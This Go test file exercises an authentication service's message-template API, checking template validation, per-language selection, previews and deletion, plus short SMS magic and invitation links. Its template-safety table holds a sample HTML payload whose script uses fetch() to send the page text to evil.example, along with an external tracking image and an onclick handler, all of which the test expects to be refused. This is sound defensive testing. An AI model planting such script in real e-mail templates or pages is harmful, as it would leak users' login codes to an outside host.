package httpapi_test

import (
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/gatehouse-auth/gatehouse/internal/courier"
	"github.com/gatehouse-auth/gatehouse/internal/server/servertest"
)

// TestMessageTemplates: an app's overrides are validated, listed, used when
// sending in the user's language, previewed and deleted; a magic link by SMS
// is a short link that fits one segment and redirects to the consent link.
// None of these routes emits an event.
func TestMessageTemplates(t *testing.T) {
	forEach(t, servertest.Options{Serve: true}, func(t *testing.T, sys *servertest.System) {
		e := envOf(t, sys, "templates")
		secret := bearer(e.appSecret)
		base := "/v1/apps/" + e.app.ID + "/message_templates"
		phone := "+14155552671"

		r := e.do(t, "GET", base, secret, nil)
		if r.status != 200 || len(r.body["locales"].([]any)) != 4 || len(r.body["messages"].([]any)) != 5 || len(r.body["overrides"].([]any)) != 0 {
			t.Fatalf("GET message_templates = %d %s", r.status, r.raw)
		}
		if !strings.Contains(string(r.raw), `"secret":true`) || !strings.Contains(string(r.raw), "Er läuft in") {
			t.Errorf("GET message_templates lacks variables or built-in German templates: %.300s", r.raw)
		}
		if r := e.do(t, "GET", base, nil, nil); r.status != 401 {
			t.Errorf("GET message_templates without a credential = %d; want 401", r.status)
		}

		// Validation names the field and the variable.
		r = e.do(t, "PUT", base+"/login_code/sms/de", secret, map[string]any{"template": map[string]any{"text": "{{.Code}} {{.Link}}"}})
		if r.status != 400 || !strings.Contains(r.str("error"), "text") || !strings.Contains(r.str("error"), ".Link") {
			t.Errorf("PUT with an unknown variable = %d %s; want 400 naming text and .Link", r.status, r.raw)
		}
		r = e.do(t, "PUT", base+"/login_code/sms/de", secret, map[string]any{"template": map[string]any{"text": "x", "subject": "s"}})
		if r.status != 400 || !strings.Contains(r.str("error"), "subject") {
			t.Errorf("PUT an SMS with a subject = %d %s; want 400 naming subject", r.status, r.raw)
		}
		r = e.do(t, "PUT", base+"/welcome/sms/de", secret, map[string]any{"template": map[string]any{"text": "x"}})
		if r.status != 400 {
			t.Errorf("PUT an unknown message = %d %s; want 400", r.status, r.raw)
		}
		// HTML that runs or loads anything is refused, saved and previewed
		// alike (courier's TestHTMLTemplateSafety has the whole table).
		for _, html := range []struct{ src, refused string }{
			{`<p>{{.Code}}</p><script>fetch("https://evil.example/?"+document.body.innerText)</script>`, "<script>"},
			{`<p>{{.Code}}</p><img src="https://evil.example/p.gif">`, "external resource"},
			{`<p onclick="x()">{{.Code}}</p>`, "onclick"},
		} {
			draft := map[string]any{"subject": "Your code", "text": "{{.Code}}", "html": html.src}
			r = e.do(t, "PUT", base+"/login_code/email/en", secret, map[string]any{"template": draft})
			if r.status != 400 || r.str("error_code") != "invalid_request" || !strings.HasPrefix(r.str("error"), "html ") || !strings.Contains(r.str("error"), html.refused) {
				t.Errorf("PUT e-mail html %s = %d %s; want 400 invalid_request naming html and %s", html.src, r.status, r.raw, html.refused)
			}
			r = e.do(t, "POST", base+"/preview", secret, map[string]any{"name": "login_code", "channel": "email", "template": draft})
			if r.status != 400 || !strings.Contains(r.str("error"), html.refused) {
				t.Errorf("preview of e-mail html %s = %d %s; want 400 naming %s", html.src, r.status, r.raw, html.refused)
			}
		}
		r = e.do(t, "PUT", base+"/login_code/email/en", secret, map[string]any{"template": map[string]any{"subject": "Your code", "text": "{{.Code}}",
			"html": `<p style="color:#333">Your code is <b>{{.Code}}</b>. <a href="https://example.com/help">Help</a></p>`}})
		if r.status != 200 {
			t.Errorf("PUT plain e-mail html = %d %s; want 200", r.status, r.raw)
		}
		if r := e.do(t, "DELETE", base+"/login_code/email/en", secret, nil); r.status != 200 && r.status != 204 {
			t.Errorf("DELETE login_code/email/en = %d %s", r.status, r.raw)
		}

		r = e.do(t, "PUT", base+"/login_code/sms/de", secret, map[string]any{"template": map[string]any{"text": "{{.Code}} ist Ihr Acme-Code (eigene Vorlage)"}})
		if tpl := r.obj("template"); r.status != 200 || tpl["locale"] != "de" || tpl["channel"] != "sms" {
			t.Fatalf("PUT login_code/sms/de = %d %s", r.status, r.raw)
		}

		// The request's language picks the override; another language its built-in.
		send := func(lang string) courier.Message {
			t.Helper()
			h := map[string]string{}
			if lang != "" {
				h["Accept-Language"] = lang
			}
			if r := e.do(t, "POST", e.authPath("/otps/login"), h, map[string]any{"identifier": phone}); r.status != 200 {
				t.Fatalf("POST otps/login = %d %s", r.status, r.raw)
			}
			m, _ := e.Mail.Last(phone)
			return m
		}
		if m := send("fr;q=0.5, de-AT"); m.Text != m.Code+" ist Ihr Acme-Code (eigene Vorlage)" {
			t.Errorf("SMS for de-AT = %q; want the app's German template", m.Text)
		}
		if m := send("fr-CA,en;q=0.1"); m.Text != m.Code+" est votre code Demo. Il expire dans 10 minutes." {
			t.Errorf("SMS for fr-CA = %q; want the built-in French", m.Text)
		}
		if m := send(""); m.Text != m.Code+" is your Demo code. It expires in 10 minutes." {
			t.Errorf("SMS without Accept-Language = %q; want English", m.Text)
		}

		// Preview: what is sent now, and a draft; the SMS is measured.
		r = e.do(t, "POST", base+"/preview", secret, map[string]any{"name": "login_code", "channel": "sms", "locale": "de-CH"})
		sms := r.obj("sms")
		if r.status != 200 || r.str("locale") != "de" || r.body["override"] != true || r.str("text") != "123456 ist Ihr Acme-Code (eigene Vorlage)" ||
			sms["encoding"] != "GSM-7" || sms["segments"] != 1.0 || sms["length"] != float64(len("123456 ist Ihr Acme-Code (eigene Vorlage)")) {
			t.Errorf("preview stored sms = %d %s", r.status, r.raw)
		}
		r = e.do(t, "POST", base+"/preview", secret, map[string]any{"name": "magic_link", "channel": "email", "locale": "es",
			"template": map[string]any{"subject": "Entra\nen {{.AppName}}", "text": "{{.Link}}", "html": `<p title="{{.AppName}}">{{.RequestedFrom}}</p>`}})
		if r.status != 200 || r.str("subject") != "Entra en Demo" || r.str("html") != `<p title="Demo">Firefox on Linux, 203.0.113.7</p>` ||
			r.body["sms"] != nil || r.str("locale") != "es" {
			t.Errorf("preview draft = %d %s", r.status, r.raw)
		}
		r = e.do(t, "POST", base+"/preview", secret, map[string]any{"name": "magic_link", "channel": "email", "template": map[string]any{"subject": "s", "text": "{{.Code}}"}})
		if r.status != 400 || !strings.Contains(r.str("error"), ".Code") {
			t.Errorf("preview of a bad draft = %d %s; want 400 naming .Code", r.status, r.raw)
		}

		// An app name with markup is escaped in HTML.
		if r := e.do(t, "PATCH", "/v1/apps/"+e.app.ID, secret, map[string]any{"app": map[string]any{"name": "Acme <script>x</script>"}}); r.status != 200 {
			t.Fatalf("PATCH app name = %d %s", r.status, r.raw)
		}
		r = e.do(t, "POST", base+"/preview", secret, map[string]any{"name": "login_code", "channel": "email", "locale": "fr"})
		if r.status != 200 || strings.Contains(r.str("html"), "<script>") || !strings.Contains(r.str("html"), "Acme &lt;script&gt;") ||
			!strings.Contains(r.str("subject"), "Acme <script>") {
			t.Errorf("preview with markup in the app name = %d %s", r.status, r.raw)
		}

		r = e.do(t, "GET", base, secret, nil)
		if o := r.body["overrides"].([]any); len(o) != 1 {
			t.Errorf("overrides = %s; want the one saved", r.raw)
		}
		if r := e.do(t, "DELETE", base+"/login_code/sms/de", secret, nil); r.status != 200 {
			t.Errorf("DELETE = %d %s", r.status, r.raw)
		}
		if r := e.do(t, "DELETE", base+"/login_code/sms/de", secret, nil); r.status != 404 || r.str("error_code") != "template_not_found" {
			t.Errorf("DELETE again = %d %s; want 404 template_not_found", r.status, r.raw)
		}
		if m := send("de"); !strings.HasPrefix(m.Text, m.Code+" ist Ihr Code für Acme <script>") {
			t.Errorf("SMS after the delete = %q; want the built-in German", m.Text)
		}
	})
}

func TestShortMagicLinkBySMS(t *testing.T) {
	forEach(t, servertest.Options{Serve: true}, func(t *testing.T, sys *servertest.System) {
		e := envOf(t, sys, "shortlinks")
		phone := "+14155552671"
		get := noFollowGet(t)

		if r := e.do(t, "POST", e.authPath("/magic_links/login"), nil, map[string]any{"identifier": phone}); r.status != 200 {
			t.Fatalf("POST magic_links/login = %d %s", r.status, r.raw)
		}
		m, _ := e.Mail.Last(phone)
		info := courier.MeasureSMS(m.Text)
		if !strings.Contains(m.Text, e.URL+"/m/") || info.Segments != 1 || info.Encoding != courier.EncodingGSM7 || info.Length > 160 {
			t.Fatalf("magic link SMS = %q (%+v); want a short link in one GSM-7 segment", m.Text, info)
		}
		short := m.Text[strings.Index(m.Text, e.URL+"/m/"):]
		short = short[:strings.IndexByte(short, ' ')]
		code := strings.TrimPrefix(short, e.URL+"/m/")
		if len(code) < 16 {
			t.Errorf("short code %q; want at least 16 characters (96 bits)", code)
		}
		res := get(short)
		loc := res.Header.Get("Location")
		if res.StatusCode != http.StatusSeeOther || !strings.HasPrefix(loc, e.URL+"/v1/auth/"+e.app.ID+"/magic_links/open?sct_magic=") {
			t.Fatalf("GET short link = %d, Location %q; want 303 to the consent link", res.StatusCode, loc)
		}
		// The consent link works as an e-mailed one: this is the device that
		// asked, so it goes straight on to the app.
		if res := get(loc); res.StatusCode != http.StatusSeeOther || !strings.Contains(res.Header.Get("Location"), "sct_magic=") {
			t.Errorf("GET consent link = %d %s; want on to the app with sct_magic", res.StatusCode, res.Header.Get("Location"))
		}
		if res := get(e.URL + "/m/AAAAAAAAAAAAAAAA"); res.StatusCode != http.StatusNotFound {
			t.Errorf("GET unknown short link = %d; want 404", res.StatusCode)
		}
		if res := get(e.URL + "/m/short"); res.StatusCode != http.StatusNotFound {
			t.Errorf("GET malformed short link = %d; want 404", res.StatusCode)
		}
		e.Clock.Advance(time.Duration(e.app.MagicLinkExpiration)*time.Second + time.Second)
		if res := get(short); res.StatusCode != http.StatusNotFound || res.Header.Get("Content-Type") != "text/html; charset=utf-8" {
			t.Errorf("GET expired short link = %d %s; want the 404 page", res.StatusCode, res.Header.Get("Content-Type"))
		}
	})
}

// TestShortInvitationBySMS: an invitation to a phone-only user is a short
// link in one SMS segment; it redirects to the app's invitation link,
// which accepts the invitation, and dies once the invitation is used or
// replaced.
func TestShortInvitationBySMS(t *testing.T) {
	forEach(t, servertest.Options{Serve: true}, func(t *testing.T, sys *servertest.System) {
		e := envOf(t, sys, "shortinvites")
		phone := "+14155552672"
		get := noFollowGet(t)
		invite := func() string {
			t.Helper()
			if r := e.do(t, "POST", "/v1/"+e.app.ID+"/users/invite", bearer(e.appSecret), map[string]any{"identifier": phone}); r.status != 200 {
				t.Fatalf("POST users/invite = %d %s", r.status, r.raw)
			}
			m, _ := e.Mail.Last(phone)
			info := courier.MeasureSMS(m.Text)
			i := strings.Index(m.Text, e.URL+"/m/")
			if i < 0 || info.Segments != 1 || info.Encoding != courier.EncodingGSM7 {
				t.Fatalf("invitation SMS = %q (%+v); want a short link in one GSM-7 segment", m.Text, info)
			}
			short := m.Text[i:]
			if j := strings.IndexAny(short, " \n"); j >= 0 {
				short = short[:j]
			}
			if strings.Contains(m.Text, "sct_magic") {
				t.Errorf("invitation SMS %q holds the long link", m.Text)
			}
			return short
		}

		first := invite()
		second := invite()
		if res := get(first); res.StatusCode != http.StatusNotFound {
			t.Errorf("GET replaced invitation's short link = %d; want 404", res.StatusCode)
		}
		res := get(second)
		loc := res.Header.Get("Location")
		i := strings.Index(loc, "sct_magic=")
		if res.StatusCode != http.StatusSeeOther || i < 0 {
			t.Fatalf("GET short invitation link = %d, Location %q; want 303 to the app with sct_magic", res.StatusCode, loc)
		}
		u, err := url.Parse(loc)
		if err != nil {
			t.Fatal(err)
		}
		if r := e.do(t, "POST", e.authPath("/magic_links/confirm_invite"), nil, map[string]any{"token": u.Query().Get("sct_magic")}); r.status != 200 || r.str("access") == "" {
			t.Fatalf("confirm_invite with the short link's token = %d %s; want tokens", r.status, r.raw)
		}
		if res := get(second); res.StatusCode != http.StatusNotFound {
			t.Errorf("GET used invitation's short link = %d; want 404", res.StatusCode)
		}
	})
}

// noFollowGet returns a GET that answers redirects instead of following them.
func noFollowGet(t *testing.T) func(url string) *http.Response {
	noFollow := &http.Client{Timeout: 30 * time.Second, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	return func(url string) *http.Response {
		t.Helper()
		res, err := noFollow.Get(url)
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		return res
	}
}
